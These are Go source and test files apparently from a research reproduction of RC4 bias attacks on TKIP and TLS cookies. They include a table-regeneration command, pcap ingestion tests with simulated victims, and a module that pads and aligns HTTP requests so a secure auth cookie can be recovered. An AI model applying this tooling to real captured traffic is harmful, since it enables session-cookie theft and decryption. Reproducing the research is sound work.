	flushTrace()
}
