// Command repro regenerates every table and figure of the paper's
// evaluation at a configurable scale and prints them as text tables. With
// default flags it runs at laptop scale in minutes; larger -keys/-trials
// values approach paper scale.
//
// Usage:
//
//	repro [-keys N] [-trials N] [-candidates N] [-only table1,fig7,...]
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"rc4break/internal/experiments"
)

func main() {
	keys := flag.Uint64("keys", 1<<20, "random keys for short-term bias experiments")
	ltKeys := flag.Int("ltkeys", 32, "keys for long-term experiments (each generates -ltblocks*256 bytes)")
	ltBlocks := flag.Int("ltblocks", 4096, "256-byte blocks per long-term key")
	trials := flag.Int("trials", 16, "simulation trials per point (paper: 256-2048)")
	candidates := flag.Int("candidates", 1<<12, "cookie candidate list depth (paper: 2^23)")
	tkipKeys := flag.Uint64("tkipkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
	only := flag.String("only", "", "comma-separated subset: table1,table2,eq2,eq35,fig4,fig5,fig6,eq8,broadcast,absab,eq9,fig7,fig89,fig10,placement,charset")
	flag.Parse()

	want := map[string]bool{}
	if *only != "" {
		for _, k := range strings.Split(*only, ",") {
			want[strings.TrimSpace(k)] = true
		}
	}
	run := func(key string) bool { return len(want) == 0 || want[key] }
	fail := func(err error) {
		fmt.Fprintln(os.Stderr, "repro:", err)
		os.Exit(1)
	}

	if run("table1") {
		res, err := experiments.Table1([16]byte{1}, *ltKeys, *ltBlocks, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("table2") {
		res, err := experiments.Table2(*keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq2") {
		res, err := experiments.ConsecutiveEq2(*keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq35") {
		res, err := experiments.Equalities(*keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig4") {
		res, err := experiments.Figure4(*keys, 0, 96)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig5") {
		res, err := experiments.Figure5(*keys, 0, nil)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig6") {
		res, err := experiments.Figure6(*keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq8") {
		res, err := experiments.LongTermZeroPairs([16]byte{2}, *ltKeys, *ltBlocks, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("broadcast") {
		res, err := experiments.BroadcastAttack(*keys, *keys, 16, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("absab") {
		res, err := experiments.ABSABGapVerification([16]byte{4}, *ltKeys, *ltBlocks, nil, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq9") {
		res, err := experiments.Equation9Search([16]byte{5}, *ltKeys, *ltBlocks, nil, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig7") {
		res := experiments.Figure7(7, nil, *trials, 128)
		res.Render(os.Stdout)
	}
	if run("fig89") {
		res, err := experiments.Figures8and9(experiments.TKIPParams{
			KeysPerTSC: *tkipKeys,
			Trials:     *trials,
			Seed:       1,
		})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig10") {
		res, err := experiments.Figure10(experiments.CookieParams{
			Trials:     *trials,
			Candidates: *candidates,
			Seed:       2,
		})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("placement") {
		trainKeys := *tkipKeys
		if trainKeys == 0 {
			trainKeys = 1 << 10 // placement always measures a trained model
		}
		res, err := experiments.PayloadPlacement(trainKeys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("charset") {
		res, err := experiments.CharsetAblation(3, 9<<27, *trials, *candidates)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
}
