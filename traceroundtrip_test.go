// Integration tests for the trace-ingestion subsystem: a capture written
// by the simulator (sim → pcap) and ingested back (pcap → evidence) must
// be indistinguishable — bit for bit — from direct in-process capture,
// for both attacks, both container formats, and through a snapshot
// write/merge cycle. This is the round-trip pin that lets real captures
// and simulated ones share every layer above the collectors.
package rc4break

import (
	"bytes"
	"errors"
	"io"
	"math/rand"
	"runtime"
	"testing"

	"rc4break/internal/cookieattack"
	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/trace"
)

// traceTKIPModel trains the small shared model the TKIP round-trip tests
// bind their attacks to.
func traceTKIPModel(t *testing.T) *tkip.PerTSCModel {
	t.Helper()
	msduLen := packet.HeaderSize + 7
	m, err := tkip.Train(tkip.TrainConfig{
		Positions:  msduLen + tkip.TrailerSize,
		KeysPerTSC: 8,
		Master:     [16]byte{0x7A},
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func newTraceTKIPAttack(t *testing.T, model *tkip.PerTSCModel) *tkip.Attack {
	t.Helper()
	msduLen := packet.HeaderSize + 7
	a, err := tkip.NewAttack(model, tkip.TrailerPositions(msduLen))
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func tkipSnapshotBytes(t *testing.T, a *tkip.Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// newPacketWriter builds a pcap or pcapng writer over buf.
func newPacketWriter(t *testing.T, buf *bytes.Buffer, format string, linkType uint32) trace.PacketWriter {
	t.Helper()
	var (
		w   trace.PacketWriter
		err error
	)
	switch format {
	case "pcap":
		w, err = trace.NewPcapWriter(buf, linkType)
	case "pcapng":
		w, err = trace.NewPcapNGWriter(buf, linkType)
	default:
		t.Fatalf("unknown format %q", format)
	}
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// TestTraceRoundTripTKIP is the headline pin for the §5 side: frames
// written to a capture by the simulated victim, ingested back through
// radiotap/802.11 parsing and sniffer-style filtering, must produce an
// evidence snapshot bitwise identical to direct in-process capture — and
// the pooled result of a snapshot write/merge cycle must match too.
func TestTraceRoundTripTKIP(t *testing.T) {
	const n = 1500
	model := traceTKIPModel(t)
	session := tkip.DemoSession()
	stream := snapshot.StreamInfo{Mode: "exact"}

	// Direct in-process capture, exactly like cmd/tkipattack exact mode.
	direct := newTraceTKIPAttack(t, model)
	direct.Stream = stream
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	sniffer := netsim.NewSniffer(victim.FrameLen())
	for i := 0; i < n; i++ {
		if f := victim.Transmit(); sniffer.Filter(f) {
			direct.Observe(f)
		}
	}

	for _, format := range []string{"pcap", "pcapng"} {
		for _, link := range []uint32{trace.LinkTypeRadiotap, trace.LinkTypeIEEE80211} {
			var buf bytes.Buffer
			fw, err := netsim.NewFrameWriter(newPacketWriter(t, &buf, format, link), link, session)
			if err != nil {
				t.Fatal(err)
			}
			wvictim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
			if err := wvictim.WriteTrace(fw, n); err != nil {
				t.Fatal(err)
			}

			ingested := newTraceTKIPAttack(t, model)
			ingested.Stream = stream
			stats, err := tkip.CollectTraceReaders(ingested, victim.FrameLen(),
				[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
			if err != nil {
				t.Fatal(err)
			}
			if stats.Matched != n {
				t.Fatalf("%s/%d: matched %d frames, want %d", format, link, stats.Matched, n)
			}
			if !bytes.Equal(tkipSnapshotBytes(t, direct), tkipSnapshotBytes(t, ingested)) {
				t.Fatalf("%s/%d: trace-ingested evidence differs from direct capture", format, link)
			}

			// Snapshot write/merge cycle: merging the reloaded trace shard
			// into an empty pool must equal merging the direct shard.
			reloaded, err := tkip.ReadAttackSnapshot(bytes.NewReader(tkipSnapshotBytes(t, ingested)), model)
			if err != nil {
				t.Fatal(err)
			}
			poolA, poolB := newTraceTKIPAttack(t, model), newTraceTKIPAttack(t, model)
			if err := poolA.Merge(direct); err != nil {
				t.Fatal(err)
			}
			if err := poolB.Merge(reloaded); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(tkipSnapshotBytes(t, poolA), tkipSnapshotBytes(t, poolB)) {
				t.Fatalf("%s/%d: merged pools differ", format, link)
			}
		}
	}
}

// TestTraceTKIPRetriesAndNoise pins the capture-quirk filtering: MAC-level
// retries (same TSC), foreign frames, and other-length frames must all be
// dropped without perturbing the evidence.
func TestTraceTKIPRetriesAndNoise(t *testing.T) {
	const n = 600
	model := traceTKIPModel(t)
	session := tkip.DemoSession()

	direct := newTraceTKIPAttack(t, model)
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	for i := 0; i < n; i++ {
		direct.Observe(victim.Transmit())
	}

	var buf bytes.Buffer
	pw := newPacketWriter(t, &buf, "pcap", trace.LinkTypeRadiotap)
	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
	if err != nil {
		t.Fatal(err)
	}
	wvictim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	foreign := netsim.NewWiFiVictim(session, []byte("A-DIFFERENT-LENGTH-PAYLOAD"))
	for i := uint64(0); i < n; i++ {
		f := wvictim.Transmit()
		if err := fw.WriteFrame(uint64(f.TSC), f.Body); err != nil {
			t.Fatal(err)
		}
		switch i % 3 {
		case 0: // MAC retry of the frame just written
			if err := fw.WriteRetry(); err != nil {
				t.Fatal(err)
			}
		case 1: // other-length data frame from the same network
			g := foreign.Transmit()
			if err := fw.WriteFrame(uint64(g.TSC), g.Body); err != nil {
				t.Fatal(err)
			}
		case 2: // a beacon-ish management frame (raw, unparseable as data)
			if err := pw.WritePacket(append([]byte{0, 0, 8, 0, 0, 0, 0, 0, 0x80, 0}, make([]byte, 30)...)); err != nil {
				t.Fatal(err)
			}
		}
	}

	ingested := newTraceTKIPAttack(t, model)
	stats, err := tkip.CollectTraceReaders(ingested, victim.FrameLen(),
		[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Matched != n {
		t.Fatalf("matched %d, want %d (stats %+v)", stats.Matched, n, stats)
	}
	if stats.Duplicates == 0 || stats.OtherLength == 0 || stats.Skipped == 0 {
		t.Fatalf("noise not classified: %+v", stats)
	}
	if !bytes.Equal(tkipSnapshotBytes(t, direct), tkipSnapshotBytes(t, ingested)) {
		t.Fatal("noisy trace perturbed the evidence")
	}
}

// TestTraceTKIPFragmentsSkipped pins the fragmentation rule: fragment
// MPDUs are counted and skipped, never folded into evidence.
func TestTraceTKIPFragmentsSkipped(t *testing.T) {
	model := traceTKIPModel(t)
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)

	var buf bytes.Buffer
	pw := newPacketWriter(t, &buf, "pcap", trace.LinkTypeIEEE80211)
	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeIEEE80211, session)
	if err != nil {
		t.Fatal(err)
	}
	f := victim.Transmit()
	if err := fw.WriteFrame(uint64(f.TSC), f.Body); err != nil {
		t.Fatal(err)
	}
	// Hand-craft a fragment: same shape, MoreFrag bit set (frame control
	// bit 10 — bit 2 of the high FC byte).
	g := victim.Transmit()
	var frag bytes.Buffer
	pw2 := newPacketWriter(t, &frag, "pcap", trace.LinkTypeIEEE80211)
	fw2, err := netsim.NewFrameWriter(pw2, trace.LinkTypeIEEE80211, session)
	if err != nil {
		t.Fatal(err)
	}
	if err := fw2.WriteFrame(uint64(g.TSC), g.Body); err != nil {
		t.Fatal(err)
	}
	fragPkt := append([]byte(nil), frag.Bytes()[24+16:]...)
	fragPkt[1] |= 0x04 // MoreFrag
	if err := pw.WritePacket(fragPkt); err != nil {
		t.Fatal(err)
	}

	a := newTraceTKIPAttack(t, model)
	stats, err := tkip.CollectTraceReaders(a, victim.FrameLen(),
		[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Matched != 1 || stats.Fragmented != 1 {
		t.Fatalf("fragment handling wrong: %+v", stats)
	}
	if a.Frames != 1 {
		t.Fatalf("fragment leaked into evidence: %d frames", a.Frames)
	}
}

// TestTraceRoundTripCookie is the headline pin for the §6 side: TLS
// records written as TCP segments, reassembled and scanned back, must
// produce evidence bitwise identical to direct in-process capture —
// including with out-of-order and duplicated segments in the capture.
func TestTraceRoundTripCookie(t *testing.T) {
	const n = 800
	const secret = "Secur3C00kieVal+"
	stream := snapshot.StreamInfo{Mode: "exact", Seed: 41}

	direct := newCookieCaptureRig(t, secret, 41)
	direct.attack.Stream = stream
	direct.capture(t, n)

	for _, format := range []string{"pcap", "pcapng"} {
		for _, link := range []uint32{trace.LinkTypeEthernet, trace.LinkTypeRawIP} {
			var buf bytes.Buffer
			sw, err := netsim.NewStreamWriter(newPacketWriter(t, &buf, format, link), link)
			if err != nil {
				t.Fatal(err)
			}
			// Small MSS so records split across several segments.
			sw.MSS = 200
			writer := newCookieCaptureRig(t, secret, 41)
			if err := writer.victim.WriteTrace(sw, n); err != nil {
				t.Fatal(err)
			}

			ingester := newCookieCaptureRig(t, secret, 41)
			ingester.attack.Stream = stream
			stats, err := cookieattack.CollectTraceReaders(ingester.attack,
				ingester.victim.RecordPlaintextLen(),
				[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
			if err != nil {
				t.Fatal(err)
			}
			if stats.Matched != n {
				t.Fatalf("%s/%d: matched %d records, want %d", format, link, stats.Matched, n)
			}
			if !bytes.Equal(cookieSnapshotBytes(t, direct.attack), cookieSnapshotBytes(t, ingester.attack)) {
				t.Fatalf("%s/%d: trace-ingested evidence differs from direct capture", format, link)
			}
		}
	}
}

// TestTraceCookieOutOfOrderCapture shuffles and duplicates the capture's
// packets; reassembly must still produce identical evidence.
func TestTraceCookieOutOfOrderCapture(t *testing.T) {
	const n = 400
	const secret = "Secur3C00kieVal+"

	direct := newCookieCaptureRig(t, secret, 43)
	direct.capture(t, n)

	// Write the stream, then re-shuffle packets within small windows (the
	// reordering a multi-path or buffered sniffer produces) and duplicate
	// some (captured retransmissions).
	var buf bytes.Buffer
	pw := newPacketWriter(t, &buf, "pcap", trace.LinkTypeEthernet)
	sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	sw.MSS = 300
	writer := newCookieCaptureRig(t, secret, 43)
	if err := writer.victim.WriteTrace(sw, n); err != nil {
		t.Fatal(err)
	}

	r, err := trace.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	var pkts [][]byte
	for {
		p, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		pkts = append(pkts, append([]byte(nil), p.Data...))
	}
	rng := rand.New(rand.NewSource(9))
	for i := 0; i+4 < len(pkts); i += 4 {
		j := i + rng.Intn(4)
		k := i + rng.Intn(4)
		pkts[j], pkts[k] = pkts[k], pkts[j]
	}
	var shuffled bytes.Buffer
	pw2, err := trace.NewPcapWriter(&shuffled, trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range pkts {
		if err := pw2.WritePacket(p); err != nil {
			t.Fatal(err)
		}
		if i%7 == 0 { // duplicate as a retransmission
			if err := pw2.WritePacket(p); err != nil {
				t.Fatal(err)
			}
		}
	}

	ingester := newCookieCaptureRig(t, secret, 43)
	stats, err := cookieattack.CollectTraceReaders(ingester.attack,
		ingester.victim.RecordPlaintextLen(),
		[]io.Reader{bytes.NewReader(shuffled.Bytes())}, 0, 0, false)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Matched != n {
		t.Fatalf("matched %d records, want %d (stats %+v)", stats.Matched, n, stats)
	}
	if !bytes.Equal(cookieSnapshotBytes(t, direct.attack), cookieSnapshotBytes(t, ingester.attack)) {
		t.Fatal("out-of-order capture perturbed the evidence")
	}
}

// TestTraceLaneRangesMatchLanes pins the fleet-serving contract: carving
// observation ranges out of trace file shards reproduces, bit for bit,
// the exact-mode lane capture a fleet worker would run in-process — for
// both attacks — and the shard set behaves as one logical stream even
// when split across files mid-lane.
func TestTraceLaneRangesMatchLanes(t *testing.T) {
	const laneRecords = 300
	const lanes = 3
	const secret = "Secur3C00kieVal+"

	// Cookie side: write the whole stream split unevenly across two files.
	var shard1, shard2 bytes.Buffer
	pw1 := newPacketWriter(t, &shard1, "pcap", trace.LinkTypeEthernet)
	sw, err := netsim.NewStreamWriter(pw1, trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	writer := newCookieCaptureRig(t, secret, 41)
	if err := writer.victim.WriteTrace(sw, laneRecords+laneRecords/2); err != nil {
		t.Fatal(err)
	}
	// Continue the same TCP stream in the second shard file: the writer's
	// sequence cursor is advanced past the bytes the first shard holds, so
	// the two files concatenate into one logical flow.
	pw2 := newPacketWriter(t, &shard2, "pcap", trace.LinkTypeEthernet)
	rest := lanes*laneRecords - (laneRecords + laneRecords/2)
	cont, err := netsim.NewStreamWriter(pw2, trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	contBytes := uint64(writer.victim.RecordPlaintextLen()+5) * (laneRecords + laneRecords/2)
	cont.SkipSequence(contBytes)
	if err := writer.victim.WriteTrace(cont, uint64(rest)); err != nil {
		t.Fatal(err)
	}

	for lane := uint64(0); lane < lanes; lane++ {
		// In-process exact lane, as a fleet worker collects it.
		inproc := newCookieCaptureRig(t, secret, 41)
		inproc.fastForward(lane * laneRecords)
		inproc.capture(t, laneRecords)

		fromTrace := newCookieCaptureRig(t, secret, 41)
		_, err := cookieattack.CollectTraceReaders(fromTrace.attack,
			fromTrace.victim.RecordPlaintextLen(),
			[]io.Reader{bytes.NewReader(shard1.Bytes()), bytes.NewReader(shard2.Bytes())},
			lane*laneRecords, laneRecords, true)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(cookieSnapshotBytes(t, inproc.attack), cookieSnapshotBytes(t, fromTrace.attack)) {
			t.Fatalf("lane %d: trace-served lane differs from in-process capture", lane)
		}
	}

	// A range past the end of the shards must fail loudly in strict mode.
	short := newCookieCaptureRig(t, secret, 41)
	_, err = cookieattack.CollectTraceReaders(short.attack, short.victim.RecordPlaintextLen(),
		[]io.Reader{bytes.NewReader(shard1.Bytes())}, lanes*laneRecords, laneRecords, true)
	if err == nil {
		t.Fatal("strict range beyond the capture did not fail")
	}
}

// TestTraceIngestStreamingMemory demonstrates the O(MB) ingest guarantee:
// a multi-hundred-MB TLS capture streamed through an io.Pipe — never
// materialized — ingests with bounded heap growth.
func TestTraceIngestStreamingMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-hundred-MB streaming ingest")
	}
	const records = 420000 // ~256 MB of capture at 537-byte records + headers
	const secret = "Secur3C00kieVal+"

	pr, pwPipe := io.Pipe()
	writeErr := make(chan error, 1)
	go func() {
		pw, err := trace.NewPcapWriter(pwPipe, trace.LinkTypeEthernet)
		if err != nil {
			writeErr <- err
			pwPipe.CloseWithError(err)
			return
		}
		sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
		if err != nil {
			writeErr <- err
			pwPipe.CloseWithError(err)
			return
		}
		rig := newCookieCaptureRig(t, secret, 41)
		err = rig.victim.WriteTrace(sw, records)
		writeErr <- err
		pwPipe.CloseWithError(err)
	}()

	ingester := newCookieCaptureRig(t, secret, 41)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)

	stats, err := cookieattack.CollectTraceReaders(ingester.attack,
		ingester.victim.RecordPlaintextLen(), []io.Reader{pr}, 0, 0, false)
	if err != nil {
		t.Fatal(err)
	}
	if werr := <-writeErr; werr != nil {
		t.Fatal(werr)
	}
	runtime.GC()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)

	if stats.Matched != records {
		t.Fatalf("matched %d records, want %d", stats.Matched, records)
	}
	// The evidence tables themselves are ~25 MB and preallocated before
	// the measurement; the ingest path on top must stay O(MB).
	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 32<<20 {
		t.Fatalf("heap grew %d MB over a streaming ingest — trace path is not O(MB)", grew>>20)
	}
}

// TestTraceCookieFoldErrorFailsFast pins the fail-fast contract: once a
// fold error latches mid-capture, Ingest stops paying parse cost — the
// error surfaces promptly and Stats.Packets stops advancing instead of
// draining the rest of the capture for evidence that is already lost.
func TestTraceCookieFoldErrorFailsFast(t *testing.T) {
	const n = 200
	const secret = "Secur3C00kieVal+"

	var buf bytes.Buffer
	sw, err := netsim.NewStreamWriter(newPacketWriter(t, &buf, "pcap", trace.LinkTypeEthernet), trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	sw.MSS = 200 // several packets per record: plenty of capture after the first match
	writer := newCookieCaptureRig(t, secret, 41)
	if err := writer.victim.WriteTrace(sw, n); err != nil {
		t.Fatal(err)
	}
	wantLen := writer.victim.RecordPlaintextLen()

	// Parse-only pass: the packet count of a full drain.
	full, err := cookieattack.CollectTraceReaders(nil, wantLen,
		[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
	if err != nil {
		t.Fatal(err)
	}
	if full.Matched != n {
		t.Fatalf("parse-only pass matched %d records, want %d", full.Matched, n)
	}

	// An attack modeling more plaintext than the capture's records hold:
	// the first matched record latches a fold error.
	long, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      40,
		Plaintext:   make([]byte, 2*wantLen),
		CounterBase: 0,
		MaxGap:      64,
	})
	if err != nil {
		t.Fatal(err)
	}
	stats, err := cookieattack.CollectTraceReaders(long, wantLen,
		[]io.Reader{bytes.NewReader(buf.Bytes())}, 0, 0, false)
	if err == nil {
		t.Fatal("fold error mid-capture did not surface from ingest")
	}
	if stats.Packets >= full.Packets {
		t.Fatalf("latched fold error did not stop ingest: %d packets parsed, full drain is %d",
			stats.Packets, full.Packets)
	}
	if long.Records != 0 {
		t.Fatalf("rejected records folded into evidence: Records=%d", long.Records)
	}
}

// TestTraceWrongLinkType pins the "unknown link type" behavior: feeding a
// capture of the wrong shape to either collector is a hard, typed error
// naming the link type — not a silent zero-evidence pass.
func TestTraceWrongLinkType(t *testing.T) {
	model := traceTKIPModel(t)
	session := tkip.DemoSession()

	// An Ethernet capture into the 802.11 pipeline.
	var eth bytes.Buffer
	sw, err := netsim.NewStreamWriter(newPacketWriter(t, &eth, "pcap", trace.LinkTypeEthernet), trace.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	if err := sw.WriteStream([]byte("stream bytes")); err != nil {
		t.Fatal(err)
	}
	a := newTraceTKIPAttack(t, model)
	var lte *trace.LinkTypeError
	_, err = tkip.CollectTraceReaders(a, 10, []io.Reader{bytes.NewReader(eth.Bytes())}, 0, 0, false)
	if !errors.As(err, &lte) {
		t.Fatalf("802.11 collector on Ethernet capture: got %v, want LinkTypeError", err)
	}

	// A radiotap capture into the TCP/TLS pipeline.
	var wifi bytes.Buffer
	fw, err := netsim.NewFrameWriter(newPacketWriter(t, &wifi, "pcap", trace.LinkTypeRadiotap), trace.LinkTypeRadiotap, session)
	if err != nil {
		t.Fatal(err)
	}
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	if err := victim.WriteTrace(fw, 3); err != nil {
		t.Fatal(err)
	}
	rig := newCookieCaptureRig(t, "Secur3C00kieVal+", 41)
	_, err = cookieattack.CollectTraceReaders(rig.attack, rig.victim.RecordPlaintextLen(),
		[]io.Reader{bytes.NewReader(wifi.Bytes())}, 0, 0, false)
	if !errors.As(err, &lte) {
		t.Fatalf("TCP collector on radiotap capture: got %v, want LinkTypeError", err)
	}
}
