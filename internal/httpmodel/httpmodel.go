// Package httpmodel models the manipulated HTTPS requests of §6.1: the
// attacker, from a man-in-the-middle position on plaintext HTTP, arranges
// that the victim's browser sends requests in which the secure auth cookie
// is (a) the first value of the Cookie header, so its offset is predictable
// from the known preceding headers, (b) followed by attacker-injected
// padding cookies, giving known plaintext on both sides, and (c) aligned to
// a fixed keystream position modulo 256 so the Fluhrer–McGrew biases apply
// at fixed PRGA counters.
package httpmodel

import (
	"errors"
	"fmt"
	"strings"
)

// CookieCharset returns the RFC 6265 §4.1.1 cookie-value alphabet the §6.2
// brute-force restricts candidates to: ASCII characters excluding controls,
// whitespace, double quote, comma, semicolon and backslash.
func CookieCharset() []byte {
	var cs []byte
	for c := byte(0x21); c < 0x7f; c++ {
		switch c {
		case '"', ',', ';', '\\':
			continue
		}
		cs = append(cs, c)
	}
	return cs
}

// Request describes the fields the attacker controls or predicts when
// crafting the Listing-3 request layout.
type Request struct {
	Host       string
	Path       string
	CookieName string // the targeted secure cookie's name, e.g. "auth"
	Cookie     string // the secret value (known to the victim's browser only)
	// FixedHeaders are the headers between the request line and the Cookie
	// header. The attacker learns them by sniffing plaintext requests from
	// the same browser (§6.1).
	FixedHeaders []string
	// Padding is the injected cookie material appended after the secret
	// (e.g. "injected1=known1; injected2=..."), sized to align the secret.
	Padding string
}

// Marshal renders the request bytes exactly as the browser would send them.
func (r Request) Marshal() []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\n", r.Path)
	fmt.Fprintf(&b, "Host: %s\r\n", r.Host)
	for _, h := range r.FixedHeaders {
		b.WriteString(h)
		b.WriteString("\r\n")
	}
	fmt.Fprintf(&b, "Cookie: %s=%s", r.CookieName, r.Cookie)
	if r.Padding != "" {
		b.WriteString("; ")
		b.WriteString(r.Padding)
	}
	b.WriteString("\r\n\r\n")
	return []byte(b.String())
}

// CookieOffset returns the 0-based byte offset of the cookie value within
// the marshaled request — predictable because everything before it is known.
func (r Request) CookieOffset() int {
	prefix := len("GET  HTTP/1.1\r\n") + len(r.Path) +
		len("Host: \r\n") + len(r.Host)
	for _, h := range r.FixedHeaders {
		prefix += len(h) + 2
	}
	prefix += len("Cookie: ") + len(r.CookieName) + 1 // '='
	return prefix
}

// AlignCookie sizes the request path so the cookie value starts at the
// given keystream offset modulo 256 within the record plaintext — §6.3's
// alignment requirement for optimal use of the Fluhrer–McGrew biases. The
// attacker observes one unpadded (encrypted) request, derives the length,
// and computes the required padding; here we compute it directly from the
// model. basePath is extended with alignment characters.
func AlignCookie(r Request, wantMod int) (Request, error) {
	if wantMod < 0 || wantMod > 255 {
		return r, errors.New("httpmodel: alignment must be in 0..255")
	}
	cur := r.CookieOffset() % 256
	need := (wantMod - cur + 256) % 256
	if need > 0 {
		r.Path += "?" + strings.Repeat("x", need-1)
		if need == 1 {
			// A single byte of growth: "?" alone.
			r.Path = strings.TrimSuffix(r.Path, "")
		}
	}
	if r.CookieOffset()%256 != wantMod {
		return r, fmt.Errorf("httpmodel: alignment failed: %d != %d", r.CookieOffset()%256, wantMod)
	}
	return r, nil
}

// KnownPlaintext reports the known bytes around the cookie: the tail of the
// prefix before the value and the padding after it. The §6 attack uses
// these as the ABSAB anchor pairs.
func (r Request) KnownPlaintext() (before, after []byte) {
	m := r.Marshal()
	off := r.CookieOffset()
	return m[:off], m[off+len(r.Cookie):]
}

// DefaultFixedHeaders mirror the Listing-3 browser headers.
func DefaultFixedHeaders() []string {
	return []string{
		"User-Agent: Mozilla/5.0 (X11; Linux i686; rv:32.0) Gecko/20100101 Firefox/32.0",
		"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language: en-US,en;q=0.5",
		"Accept-Encoding: gzip, deflate",
	}
}
