package httpmodel

import (
	"bytes"
	"strings"
	"testing"
)

func testRequest() Request {
	return Request{
		Host:         "site.com",
		Path:         "/",
		CookieName:   "auth",
		Cookie:       "ABCDEFGHIJKLMNOP",
		FixedHeaders: DefaultFixedHeaders(),
		Padding:      "injected1=known1; injected2=knownplaintext2",
	}
}

func TestCookieCharset(t *testing.T) {
	cs := CookieCharset()
	// RFC 6265 allows at most 90 unique characters per the paper's §6.2.
	if len(cs) != 90 {
		t.Fatalf("charset size %d, want 90", len(cs))
	}
	seen := map[byte]bool{}
	for _, c := range cs {
		if seen[c] {
			t.Fatalf("duplicate %q", c)
		}
		seen[c] = true
		if c <= 0x20 || c >= 0x7f {
			t.Fatalf("out-of-range %#x", c)
		}
	}
	for _, forbidden := range []byte{'"', ',', ';', '\\', ' '} {
		if seen[forbidden] {
			t.Fatalf("forbidden char %q present", forbidden)
		}
	}
	// Typical base64url cookie characters must be present.
	for _, ok := range []byte("AZaz09-_=+/.~") {
		if !seen[ok] {
			t.Fatalf("expected char %q missing", ok)
		}
	}
}

func TestMarshalLayout(t *testing.T) {
	r := testRequest()
	m := r.Marshal()
	s := string(m)
	if !strings.HasPrefix(s, "GET / HTTP/1.1\r\nHost: site.com\r\n") {
		t.Fatal("bad request line or host")
	}
	if !strings.HasSuffix(s, "\r\n\r\n") {
		t.Fatal("missing terminator")
	}
	if !strings.Contains(s, "Cookie: auth=ABCDEFGHIJKLMNOP; injected1=known1") {
		t.Fatal("cookie header layout wrong")
	}
	// The cookie must be the FIRST value in the Cookie header.
	ci := strings.Index(s, "Cookie: ")
	if strings.Index(s[ci:], "auth=") != len("Cookie: ") {
		t.Fatal("auth cookie is not first")
	}
}

func TestCookieOffset(t *testing.T) {
	r := testRequest()
	m := r.Marshal()
	off := r.CookieOffset()
	if off <= 0 || off+len(r.Cookie) > len(m) {
		t.Fatalf("offset %d out of range", off)
	}
	if got := string(m[off : off+len(r.Cookie)]); got != r.Cookie {
		t.Fatalf("offset points at %q", got)
	}
}

func TestCookieOffsetStableUnderValueChange(t *testing.T) {
	// The attack depends on the offset not moving when the (unknown)
	// cookie value changes — only its length matters, and lengths match.
	a := testRequest()
	b := testRequest()
	b.Cookie = "0123456789abcdef"
